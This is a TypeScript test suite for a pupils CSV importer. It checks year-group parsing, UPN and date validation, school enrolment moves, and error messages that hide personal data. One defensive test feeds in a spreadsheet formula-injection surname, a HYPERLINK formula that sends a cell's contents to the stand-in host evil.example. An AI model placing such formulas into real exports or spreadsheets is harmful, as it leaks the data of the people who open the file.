import assert from 'node:assert/strict';
import { parseNcYear } from '../../../services/importers/pupils-importer';
import { forEachEngine } from '../../helpers/test-stores';
import { clockOn, fixture, importFile, importOk, PUPIL_HEADER, scratch, snapshot, TODAY, UPNS } from './import-kit';

/** A valid pupil row; override columns by name. */
function pupilRow(upn: string, schoolUrn: number, overrides: Record<string, string> = {}): string {
  const values: Record<string, string> = {
    upn,
    school_urn: String(schoolUrn),
    legal_forename: 'Robin',
    legal_surname: 'Ashby',
    preferred_forename: '',
    date_of_birth: '2013-05-20',
    nc_year: '8',
    sex: 'M',
    ethnicity: 'WBRI',
    sen_provision: 'N',
    looked_after: 'N',
    social_worker: 'N',
    fsm: 'N',
    youth_justice: 'N',
    ...overrides,
  };
  return PUPIL_HEADER.split(',')
    .map((c) => values[c]!)
    .join(',');
}

describe('pupils import', () => {
  const files = scratch();
  after(() => files.cleanup());

  describe('nc_year spellings', () => {
    it('reads numbers, Y/Year prefixes, R and the nursery years', () => {
      assert.equal(parseNcYear('7'), 7);
      assert.equal(parseNcYear('Y7'), 7);
      assert.equal(parseNcYear('year 11'), 11);
      assert.equal(parseNcYear('R'), 0);
      assert.equal(parseNcYear('N2'), -1);
      assert.equal(parseNcYear('N1'), -2);
      assert.equal(parseNcYear('-2'), -2);
      assert.equal(parseNcYear('14'), 14);
      assert.equal(parseNcYear('15'), undefined);
      assert.equal(parseNcYear('-3'), undefined);
      assert.equal(parseNcYear('X'), undefined);
    });
  });

  forEachEngine((getStore) => {
    beforeEach(async () => {
      await importOk(getStore(), 'schools', fixture('schools.csv'));
    });

    it('reads the optional home_la column (issue 9: pupils living in another authority) and refuses a bad code', async () => {
      const store = getStore();
      const urn = Number((await store.db.selectFrom('school').select('urn').executeTakeFirstOrThrow()).urn);
      const header = `${PUPIL_HEADER},home_la`;
      await importOk(store, 'pupils', files.csv([header, `${pupilRow(UPNS[0]!, urn)},891`, `${pupilRow(UPNS[1]!, urn)},`]));
      const rows = await store.db.selectFrom('pupil').select(['upn', 'home_la']).orderBy('upn').execute();
      assert.deepEqual(new Map(rows.map((r) => [r.upn, r.home_la])), new Map([[UPNS[0]!, '891'], [UPNS[1]!, null]]));
      const bad = await importFile(store, 'pupils', files.csv([header, `${pupilRow(UPNS[2]!, urn)},89X`]));
      assert.equal(bad.ok, false);
      assert.match(bad.ok ? '' : bad.errors.join('\n'), /:2: home_la: "89X" is not a three-digit LA code/);
    });

    it('imports pupils with every accepted spelling and enrols each at the named school from the import date', async () => {
      const store = getStore();
      const result = await importOk(store, 'pupils', fixture('pupils.csv'));
      assert.equal(result.rows, 4);
      assert.deepEqual(result.counts, { inserted: 4, updated: 0, unchanged: 0, other: { 'enrolments started': 4 } });
      const snap = await snapshot(store);
      const pupils = snap.pupil.map(({ id: _id, ...p }) => p);
      assert.deepEqual(pupils, [
        {
          upn: 'K925200219101', legal_forename: 'Amelia', legal_surname: 'Hartley', preferred_forename: 'Millie', date_of_birth: '2014-10-03',
          nc_year: 7, sex: 'F', ethnicity: 'WBRI', sen_provision: 'K', looked_after: 0, social_worker: 'N', fsm: 1, youth_justice: 0, home_la: null,
        },
        {
          upn: 'H925200319102', legal_forename: 'Jakub', legal_surname: 'Nowak', preferred_forename: null, date_of_birth: '2012-03-19',
          nc_year: 9, sex: 'M', ethnicity: 'WOTH', sen_provision: 'E', looked_after: 1, social_worker: 'CP', fsm: 1, youth_justice: 1, home_la: null,
        },
        {
          upn: 'E925200119103', legal_forename: 'Priya', legal_surname: 'Sharma', preferred_forename: null, date_of_birth: '2021-06-01',
          nc_year: 0, sex: 'F', ethnicity: 'AIND', sen_provision: 'N', looked_after: 0, social_worker: 'N', fsm: 0, youth_justice: 0, home_la: null,
        },
        {
          upn: 'C925200219104', legal_forename: 'Ella-Rose', legal_surname: "O'Neill, Smith", preferred_forename: 'Ella', date_of_birth: '2022-12-11',
          nc_year: -1, sex: 'F', ethnicity: 'MWBC', sen_provision: 'N', looked_after: 0, social_worker: 'CIN', fsm: 0, youth_justice: 0, home_la: null,
        },
      ]);
      const upnOf = new Map(snap.pupil.map((p) => [p.id, p.upn]));
      assert.deepEqual(
        snap.enrolment.map((e) => [upnOf.get(e.pupil_id), e.school_urn, e.start_date, e.end_date, e.registration]),
        [
          ['K925200219101', 990002, TODAY, null, 'C'],
          ['H925200319102', 990002, TODAY, null, 'C'],
          ['E925200119103', 990001, TODAY, null, 'C'],
          ['C925200219104', 990003, TODAY, null, 'C'],
        ],
      );
    });

    it('changes nothing when the same file is imported again, on the same day or later', async () => {
      const store = getStore();
      await importOk(store, 'pupils', fixture('pupils.csv'));
      const before = await snapshot(store);
      const sameDay = await importOk(store, 'pupils', fixture('pupils.csv'));
      assert.deepEqual(sameDay.counts, { inserted: 0, updated: 0, unchanged: 4, other: {} });
      const nextWeek = await importOk(store, 'pupils', fixture('pupils.csv'), { clock: clockOn('2026-12-02') });
      assert.deepEqual(nextWeek.counts, { inserted: 0, updated: 0, unchanged: 4, other: {} });
      assert.deepEqual(await snapshot(store), before);
    });

    it('updates a pupil whose details changed and leaves the others alone', async () => {
      const store = getStore();
      await importOk(store, 'pupils', files.csv([PUPIL_HEADER, pupilRow(UPNS[0]!, 990002), pupilRow(UPNS[1]!, 990002)]));
      const result = await importOk(store, 'pupils', files.csv([PUPIL_HEADER, pupilRow(UPNS[0]!, 990002, { sen_provision: 'E', fsm: 'Y' }), pupilRow(UPNS[1]!, 990002)]));
      assert.deepEqual(result.counts, { inserted: 0, updated: 1, unchanged: 1, other: {} });
      const changed = await store.db.selectFrom('pupil').selectAll().where('upn', '=', UPNS[0]!).executeTakeFirstOrThrow();
      assert.equal(changed.sen_provision, 'E');
      assert.equal(changed.fsm, 1);
      assert.equal((await snapshot(store)).enrolment.length, 2);
    });

    it('moves a pupil who appears at another school: the old enrolment ends the day before, a new one starts', async () => {
      const store = getStore();
      await importOk(store, 'pupils', files.csv([PUPIL_HEADER, pupilRow(UPNS[0]!, 990001)]), { clock: clockOn('2026-09-03') });
      const moved = await importOk(store, 'pupils', files.csv([PUPIL_HEADER, pupilRow(UPNS[0]!, 990002)]));
      assert.deepEqual(moved.counts, { inserted: 0, updated: 1, unchanged: 0, other: { 'enrolments ended': 1, 'enrolments started': 1 } });
      const rows = (await snapshot(store)).enrolment.map((e) => [e.school_urn, e.start_date, e.end_date, e.registration]);
      assert.deepEqual(rows, [
        [990001, '2026-09-03', '2026-11-24', 'C'],
        [990002, TODAY, null, 'C'],
      ]);
    });

    it('keeps a main dual registration at the named school and leaves subsidiary registrations alone', async () => {
      const store = getStore();
      await importOk(store, 'pupils', files.csv([PUPIL_HEADER, pupilRow(UPNS[0]!, 990001)]), { clock: clockOn('2026-09-03') });
      const pupil = await store.db.selectFrom('pupil').select('id').where('upn', '=', UPNS[0]!).executeTakeFirstOrThrow();
      await store.db.updateTable('enrolment').set({ registration: 'M' }).where('pupil_id', '=', pupil.id).execute();
      await store.db.insertInto('enrolment').values({ pupil_id: pupil.id, school_urn: 990004, start_date: '2026-10-01', end_date: null, registration: 'S' }).execute();
      const before = await snapshot(store);
      const same = await importOk(store, 'pupils', files.csv([PUPIL_HEADER, pupilRow(UPNS[0]!, 990001)]));
      assert.deepEqual(same.counts.unchanged, 1);
      assert.deepEqual(await snapshot(store), before);
    });

    it('replaces an enrolment made earlier the same day instead of leaving a zero-length one', async () => {
      const store = getStore();
      await importOk(store, 'pupils', files.csv([PUPIL_HEADER, pupilRow(UPNS[0]!, 990001)]));
      const result = await importOk(store, 'pupils', files.csv([PUPIL_HEADER, pupilRow(UPNS[0]!, 990002)]));
      assert.deepEqual(result.counts.other, { 'enrolments ended': 1, 'enrolments started': 1 });
      const rows = (await snapshot(store)).enrolment.map((e) => [e.school_urn, e.start_date, e.end_date]);
      assert.deepEqual(rows, [[990002, TODAY, null]]);
      // ...and moving back the same day works too (no clash with a same-day row).
      await importOk(store, 'pupils', files.csv([PUPIL_HEADER, pupilRow(UPNS[0]!, 990001)]));
      assert.deepEqual((await snapshot(store)).enrolment.map((e) => [e.school_urn, e.start_date, e.end_date]), [[990001, TODAY, null]]);
    });

    it('reports each kind of problem by line and column, without names, UPNs or dates of birth', async () => {
      const store = getStore();
      const file = fixture('pupils-errors.csv');
      const result = await importFile(store, 'pupils', file);
      assert.equal(result.ok, false);
      assert.deepEqual(result.errors, [
        `${file}:3: upn: UPN check letter is wrong`,
        `${file}:4: school_urn: unknown school 990099 (import it with the schools file first)`,
        `${file}:5: date_of_birth: is not a date (expected YYYY-MM-DD, or DD/MM/YYYY)`,
        `${file}:6: ethnicity: is not a DfE main ethnicity code (e.g. WBRI, AIND, MOTH, REFU, NOBT)`,
        `${file}:7: upn: the same value is already on line 2`,
        `${file}:8: nc_year: is not a year group (-2..14, R, N1 or N2)`,
        `${file}:8: sex: is not F or M`,
        `${file}:8: looked_after: is not Y or N (also yes/no, true/false, 1/0)`,
      ]);
      const text = result.errors.join('\n');
      for (const secret of ['B925200319102', 'K925200219101', 'Jakub', 'Nowak', 'Priya', 'Ella', '2015-02-30', 'XXXX', 'maybe']) {
        assert.ok(!text.includes(secret), `the messages must not show ${secret}`);
      }
    });

    it('refuses names with line breaks, control characters or a leading formula character, by line and column, without echoing them', async () => {
      const store = getStore();
      const before = await snapshot(store);
      const file = files.csv([
        PUPIL_HEADER,
        pupilRow(UPNS[0]!, 990001, { legal_forename: '"Ann\nMarie"' }),
        pupilRow(UPNS[1]!, 990001, { legal_surname: '"=HYPERLINK(""http://evil.example/?""&A1,""Ashby"")"' }),
        pupilRow(UPNS[2]!, 990001, { preferred_forename: '+Robbie' }),
        pupilRow(UPNS[3]!, 990001, { legal_forename: '@Robin' }),
        pupilRow(UPNS[4]!, 990001, { legal_surname: '-Ashby' }),
        pupilRow(UPNS[5]!, 990001, { legal_forename: 'Ro\u0000bin' }),
        pupilRow(UPNS[6]!, 990001, { legal_surname: '"Ash\rby"' }),
        pupilRow(UPNS[7]!, 990001, { legal_forename: 'Anne-Marie', legal_surname: '"O\'Neill-Smith"' }),
      ]);
      const result = await importFile(store, 'pupils', file);
      const formula = 'starts with =, +, - or @ (a spreadsheet would read it as a formula)';
      const control = 'contains a line break or another control character';
      assert.deepEqual(result.errors, [
        `${file}:2: legal_forename: ${control}`,
        `${file}:4: legal_surname: ${formula}`,
        `${file}:5: preferred_forename: ${formula}`,
        `${file}:6: legal_forename: ${formula}`,
        `${file}:7: legal_surname: ${formula}`,
        `${file}:8: legal_forename: ${control}`,
        `${file}:9: legal_surname: ${control}`,
      ]);
      assert.ok(!result.errors.join('\n').match(/HYPERLINK|Robbie|Marie|Ashby/), 'no name in the messages');
      assert.deepEqual(await snapshot(store), before, 'nothing written');
    });

    it('checks the other UPN rules, dates of birth in the future or too long ago, and empty required values', async () => {
      const store = getStore();
      const file = files.csv([
        PUPIL_HEADER,
        pupilRow('K92520021910', 990001),
        pupilRow('K92520021910I', 990001),
        pupilRow(UPNS[0]!, 990001, { date_of_birth: '2027-01-01' }),
        pupilRow(UPNS[1]!, 990001, { date_of_birth: '1990-01-01' }),
        pupilRow(UPNS[2]!, 990001, { legal_surname: '', sen_provision: 'S' }),
        pupilRow(UPNS[3]!, 990001, { date_of_birth: '20/05/2013', social_worker: 'yes' }),
      ]);
      const result = await importFile(store, 'pupils', file);
      assert.deepEqual(result.errors, [
        `${file}:2: upn: UPN must be 13 characters`,
        `${file}:3: upn: UPN must be a check letter, 11 digits, then a digit or (temporary UPN) a letter`,
        `${file}:4: date_of_birth: is in the future`,
        `${file}:5: date_of_birth: is 26 or more years before the import date: not a pupil`,
        `${file}:6: legal_surname: is empty`,
        `${file}:6: sen_provision: is not E, K or N`,
        `${file}:7: social_worker: is not N, CIN or CP`,
      ]);
    });

    it('accepts a temporary UPN (final letter) with the right check letter', async () => {
      const store = getStore();
      const result = await importOk(store, 'pupils', files.csv([PUPIL_HEADER, pupilRow('M92520011910A', 990001)]));
      assert.equal(result.counts.inserted, 1);
    });

    it('changes nothing when any row is bad, even if the rest would update stored pupils', async () => {
      const store = getStore();
      await importOk(store, 'pupils', fixture('pupils.csv'));
      const before = await snapshot(store);
      const file = files.csv([
        PUPIL_HEADER,
        pupilRow('K925200219101', 990001, { legal_surname: 'Changed' }),
        pupilRow('A925200319105', 990003),
        pupilRow('X925200119106', 990001, { ethnicity: 'ZZZZ' }),
      ]);
      const result = await importFile(store, 'pupils', file);
      assert.deepEqual(result.errors, [`${file}:4: ethnicity: is not a DfE main ethnicity code (e.g. WBRI, AIND, MOTH, REFU, NOBT)`]);
      assert.deepEqual(await snapshot(store), before);
    });

    it('refuses a file that lacks a required column, and accepts one without preferred_forename', async () => {
      const store = getStore();
      const file = fixture('pupils-missing-column.csv');
      const result = await importFile(store, 'pupils', file);
      assert.deepEqual(result.errors, [`${file}:1: header: missing column "sex"`]);
      const header = PUPIL_HEADER.replace(',preferred_forename', '');
      const row = pupilRow(UPNS[0]!, 990001).split(',');
      row.splice(4, 1);
      const ok = await importOk(store, 'pupils', files.csv([header, row.join(',')]));
      assert.equal(ok.counts.inserted, 1);
    });

    it('stops collecting after the error limit and says the list was cut short', async () => {
      const store = getStore();
      const rows = [PUPIL_HEADER];
      for (let i = 0; i < 80; i++) rows.push(pupilRow(UPNS[0]!, 990099));
      const result = await importFile(store, 'pupils', files.csv(rows), { maxErrors: 50 });
      assert.equal(result.errors.length, 50);
      assert.equal(result.truncated, true);
      assert.equal(result.errors[0]!.endsWith(':2: school_urn: unknown school 990099 (import it with the schools file first)'), true);
    });
  });
});
